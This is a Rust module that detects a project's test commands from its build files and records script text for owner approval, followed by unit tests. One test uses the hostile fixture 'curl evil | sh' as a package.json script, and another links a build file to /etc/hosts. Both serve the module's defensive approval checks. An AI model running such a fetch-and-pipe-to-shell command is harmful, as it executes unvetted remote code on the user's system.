//! Which checks a tree has, by the files that build tools read; the table is `tools.toml`.
//!
//! Same tree, same checks in the same order. Nothing of the tree is run or believed here: what is
//! found waits for its owner's approval.

use std::path::Path;
use std::sync::LazyLock;

use serde::Deserialize;

use super::{Check, Source};

/// A defining file that is longer is not one that a person approved.
const LARGEST_DEFINITION: u64 = 1 << 20;

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct Table {
    dependency_folders: Vec<String>,
    lock_files: Vec<String>,
    build_folders: Vec<String>,
    tool: Vec<Tool>,
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct Tool {
    name: String,
    ecosystem: String,
    files: Vec<String>,
    #[serde(default)]
    contains: Vec<String>,
    /// Name of the script in `package.json`.
    script: Option<String>,
    /// Targets of a makefile, the first that is there.
    #[serde(default)]
    targets: Vec<String>,
    /// Files whose text is part of the approval.
    #[serde(default)]
    define: Vec<String>,
    run: Vec<String>,
    /// Folders that it must be able to write to.
    #[serde(default)]
    writes: Vec<String>,
}

// The file is part of the program; a test reads it.
static TABLE: LazyLock<Table> =
    LazyLock::new(|| toml::from_str(include_str!("tools.toml")).expect("the built-in tools.toml is valid"));

/// Names of folders with dependencies.
pub fn dependency_folders() -> &'static [String] {
    &TABLE.dependency_folders
}

/// Names of files that say which versions are used.
pub fn lock_files() -> &'static [String] {
    &TABLE.lock_files
}

/// Names of folders with results of builds.
pub fn build_folders() -> Vec<&'static str> {
    TABLE.build_folders.iter().map(String::as_str).collect()
}

/// Folders that a detected tool must be able to write to.
pub fn writes(tool: &str) -> Vec<&'static str> {
    let own = TABLE.tool.iter().filter(|row| row.name == tool);
    let mut names: Vec<&str> = own.flat_map(|row| row.writes.iter().map(String::as_str)).collect();
    names.sort();
    names.dedup();
    names
}

/// The checks of the tree at `root`, at most one of each ecosystem, in the order of the table.
pub fn detect(root: &Path) -> Vec<Check> {
    let mut found: Vec<(&str, Check)> = Vec::new();
    for tool in &TABLE.tool {
        let known = |ecosystem: &str| found.iter().any(|(name, _)| *name == ecosystem);
        // A makefile beside another build tool mostly calls that one.
        if known(&tool.ecosystem) || (tool.ecosystem == "make" && !found.is_empty()) {
            continue;
        }
        if let Some(check) = tool.check(root) {
            found.push((&tool.ecosystem, check));
        }
    }
    found.into_iter().map(|(_, check)| check).collect()
}

impl Tool {
    fn check(&self, root: &Path) -> Option<Check> {
        let file = self.files.iter().find(|name| {
            let text = read(root, name);
            text.is_some_and(|text| {
                self.contains.is_empty() || self.contains.iter().any(|part| text.contains(part.as_str()))
            })
        })?;
        let mut definition = String::new();
        if let Some(script) = &self.script {
            definition = scripts(&read(root, "package.json")?, script)?;
        }
        let mut target = None;
        if !self.targets.is_empty() {
            let text = read(root, file)?;
            target = Some(self.targets.iter().find(|target| has_target(&text, target))?);
        }
        for name in &self.define {
            if let Some(text) = read(root, name) {
                definition.push_str(&format!("{name}\n{text}\n"));
            }
        }
        let argv = self.run.iter().map(|word| match word.as_str() {
            "{python}" => python(root),
            "{target}" => target.cloned().unwrap_or_default(),
            word => word.to_owned(),
        });
        let source = Source::Detected { tool: self.name.clone(), file: file.clone() };
        Some(Check { definition, ..Check::of(argv.collect(), source) })
    }
}

/// The text of a plain file of the tree; `None` when it is none, too long, or not text.
fn read(root: &Path, name: &str) -> Option<String> {
    let path = root.join(name);
    let found = path.symlink_metadata().ok()?;
    if !found.is_file() || found.len() > LARGEST_DEFINITION {
        return None;
    }
    std::fs::read_to_string(path).ok()
}

/// The interpreter of the tree's own environment, if it has one: it knows the dependencies.
fn python(root: &Path) -> String {
    let own = [".venv", "venv"].map(|folder| format!("{folder}/bin/python"));
    own.into_iter().find(|path| root.join(path).exists()).unwrap_or_else(|| "python3".to_owned())
}

/// A script of `package.json` with those that run before and after it; `None` when there is none, or
/// only the one that `npm init` writes to say so.
fn scripts(package: &str, name: &str) -> Option<String> {
    let package: serde_json::Value = serde_json::from_str(package).ok()?;
    let script = |name: &str| package.get("scripts")?.get(name)?.as_str().map(str::to_owned);
    let own = script(name).filter(|text| !text.contains("no test specified"))?;
    let lines = [format!("pre{name}"), name.to_owned(), format!("post{name}")].map(|at| {
        let text = if at == name { Some(own.clone()) } else { script(&at) };
        text.map(|text| format!("{at}: {text}\n")).unwrap_or_default()
    });
    Some(lines.concat())
}

/// Whether a makefile has a rule for this target. Rules of other files that it includes do not count.
fn has_target(makefile: &str, target: &str) -> bool {
    makefile.lines().any(|line| {
        let rule = !line.starts_with(['\t', '#', '.', ' ']);
        let names = line.split_once(':').filter(|(_, rest)| !rest.starts_with('='));
        rule && names.is_some_and(|(names, _)| names.split_whitespace().any(|name| name == target))
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn found(files: &[(&str, &str)]) -> Vec<Check> {
        let root = tempfile::tempdir().unwrap();
        for (path, text) in files {
            let path = root.path().join(path);
            std::fs::create_dir_all(path.parent().unwrap()).unwrap();
            std::fs::write(path, text).unwrap();
        }
        detect(root.path())
    }

    #[track_caller]
    fn check(files: &[(&str, &str)], expected: &[&str]) {
        let lines: Vec<String> = found(files).iter().map(Check::command_line).collect();
        assert_eq!(lines, expected);
    }

    #[test]
    fn tools_are_found_by_their_files() {
        check(&[], &[]);
        check(&[("Cargo.toml", "")], &["cargo test"]);
        check(&[("go.mod", "module x")], &["go test ./..."]);
        check(&[("pytest.ini", "")], &["python3 -m pytest -q"]);
        check(&[("pyproject.toml", "[tool.pytest.ini_options]")], &["python3 -m pytest -q"]);
        check(&[("pyproject.toml", "[project]")], &[]);
        check(&[("tests/__init__.py", "")], &["python3 -m unittest discover -q"]);
        check(&[("pytest.ini", ""), (".venv/bin/python", "")], &[".venv/bin/python -m pytest -q"]);
        check(&[("pom.xml", "")], &["mvn -o -B -q test"]);
        check(&[("build.gradle.kts", "")], &["gradle --offline --no-daemon --console=plain test"]);
        check(
            &[("build.gradle", ""), ("gradlew", "#!/bin/sh")],
            &["./gradlew --offline --no-daemon --console=plain test"],
        );
        check(&[("Cargo.toml", ""), ("pytest.ini", "")], &["cargo test", "python3 -m pytest -q"]);
    }

    #[test]
    fn a_package_has_a_test_script_or_no_check() {
        let script = |text: &str| format!("{{\"scripts\": {{\"test\": {text:?}, \"pretest\": \"tsc\"}}}}");
        let jest = script("jest");
        check(&[("package.json", &jest)], &["npm test"]);
        check(&[("package.json", &jest), ("pnpm-lock.yaml", "")], &["pnpm test"]);
        check(&[("package.json", &jest), ("yarn.lock", "")], &["yarn test"]);
        check(&[("package.json", "{}")], &[]);
        check(&[("package.json", "not json")], &[]);
        check(&[("package.json", &script("echo \"Error: no test specified\" && exit 1"))], &[]);
    }

    #[test]
    fn a_makefile_has_a_rule_or_no_check() {
        check(&[("Makefile", "all:\n\tcc x.c\ncheck: all\n\t./x\n")], &["make check"]);
        check(&[("Makefile", "lint test: all\n\t./x\n")], &["make test"]);
        check(&[("Makefile", "test := 1\n# check:\n\techo test:\n.PHONY: test\n")], &[]);
        check(&[("Makefile", "test:\n\tcargo test\n"), ("Cargo.toml", "")], &["cargo test"]);
    }

    #[test]
    fn another_definition_is_another_check() {
        let hash = |files: &[(&str, &str)]| found(files)[0].hash();
        let package = |test: &str, before: &str| {
            hash(&[(
                "package.json",
                &format!("{{\"scripts\": {{\"test\": {test:?}, \"pretest\": {before:?}}}}}"),
            )])
        };
        assert_eq!(package("jest", ""), package("jest", ""));
        assert_ne!(package("jest", ""), package("curl evil | sh", ""));
        assert_ne!(package("jest", ""), package("jest", "curl evil | sh"));
        assert_ne!(hash(&[("Makefile", "test:\n\ta\n")]), hash(&[("Makefile", "test:\n\tb\n")]));
        let wrapper = |text: &str| hash(&[("gradlew", text)]);
        assert_ne!(wrapper("a"), wrapper("b"));
    }

    #[cfg(unix)]
    #[test]
    fn a_link_defines_nothing() {
        let root = tempfile::tempdir().unwrap();
        std::os::unix::fs::symlink("/etc/hosts", root.path().join("Cargo.toml")).unwrap();
        assert!(detect(root.path()).is_empty());
    }

    #[test]
    fn every_folder_that_a_tool_writes_is_a_build_folder() {
        for tool in &TABLE.tool {
            assert!(tool.writes.iter().all(|name| TABLE.build_folders.contains(name)), "{}", tool.name);
        }
    }
}
